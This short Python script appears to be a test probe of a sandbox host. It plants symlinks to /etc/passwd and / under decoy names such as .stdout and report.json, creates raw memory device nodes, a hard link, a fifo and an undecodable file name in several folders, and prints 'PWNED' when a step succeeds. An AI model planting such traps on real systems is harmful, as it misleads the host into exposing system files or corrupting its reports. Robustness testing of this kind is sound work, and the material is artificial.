# tries: links, devices, sockets and odd names in its folders, for a host that might follow or copy them
# wants: honest
# min: 15
# %% own
import os, socket
for place in (".", "/tmp", os.path.expanduser("~"), "/dev/shm"):
    for name, target in (("passwd", "/etc/passwd"), ("root", "/"), ("marks", "/tmp/atk_marks"), ("loop", "loop"), (".stdout", "/etc/passwd"),
                         (".stderr", "/tmp/atk_marks/stderr"), ("report.json", "/tmp/atk_marks/report")):
        try:
            os.symlink(target, f"{place}/{name}")
        except OSError:
            pass
    try:
        os.link("/usr/bin/id", f"{place}/hard")
        print("PW" + "NED hard link")
    except OSError:
        pass
    for kind in (0o020666, 0o060666):
        try:
            os.mknod(f"{place}/device{kind}", kind, os.makedev(1, 1))
            open(f"{place}/device{kind}", "rb").read(1)
            print("PW" + "NED device")
        except OSError:
            pass
    os.mkfifo(f"{place}/fifo")
    with open(b"/tmp/\xff\n" + os.urandom(4).hex().encode(), "w"):
        pass
